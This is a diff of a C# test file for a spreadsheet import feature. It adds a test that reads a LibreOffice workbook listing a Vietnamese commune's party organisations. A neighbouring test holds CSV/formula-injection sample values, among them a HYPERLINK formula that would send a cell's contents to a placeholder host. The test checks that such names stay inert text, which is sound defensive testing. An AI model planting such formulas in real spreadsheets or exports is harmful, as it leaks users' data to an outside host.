@@ -114,6 +114,30 @@ public sealed class OrgFileTests : IDisposable
     }
 
     [Fact]
+    public void A_workbook_made_by_a_spreadsheet_program_is_read_from_its_organisation_sheet_under_the_title_block()
+    {
+        // Made by LibreOffice from files/to-chuc-co-bia.fods: a cover sheet "Bìa" first, then "Tổ chức" with a merged title.
+        var path = Path.Combine(Scripts.ConversationScriptTests.Folder, "files", "to-chuc-co-bia.xlsx");
+        using (var zip = System.IO.Compression.ZipFile.OpenRead(path))
+        {
+            var app = new StreamReader(zip.GetEntry("docProps/app.xml")!.Open()).ReadToEnd();
+            Assert.Contains("LibreOffice", app);
+            Assert.Contains("<mergeCell ref=\"A1:O1\"/>", new StreamReader(zip.GetEntry("xl/worksheets/sheet2.xml")!.Open()).ReadToEnd());
+        }
+        var table = _files.ReadTable(path);
+        Assert.Equal(OrgTable.SheetName, table.Sheet);
+        Assert.Equal("DANH SÁCH TỔ CHỨC ĐẢNG BỘ XÃ HÒA BÌNH", table.Rows[0][0]);
+        Assert.Equal("Loại", table.Rows[3][0]);
+        var binh = table.Rows.Single(r => r.Count > 1 && r[1] == "hb-001");
+        Assert.Equal("25/03/1970", binh[11]); // a date cell, read as the date it shows
+        var duc = table.Rows.Single(r => r.Count > 1 && r[1] == "hb-002");
+        Assert.Equal("Trịnh Văn Đức", duc[2]); // typed with combining accents in the file, read as NFC
+        var (plan, errors) = OrgImport.Check(_host.Store, ScriptHost.Templates, table.Rows, _host.Clock.GetUtcNow().UtcDateTime);
+        Assert.Empty(errors);
+        Assert.Equal((1, 2, 4), (plan!.NewUnits.Count, plan.NewCells.Count, plan.NewMembers.Count));
+    }
+
+    [Fact]
     public async Task Names_shaped_like_formulas_are_text_in_the_csv_and_the_workbook_and_import_back_unchanged()
     {
         string[] names = ["=HYPERLINK(\"http://x.invalid/?\"&C3,\"Xem\")", "+84 Nguyễn Văn Cộng", "-Trừ Văn Âm", "@Lệnh Văn Gọi"];
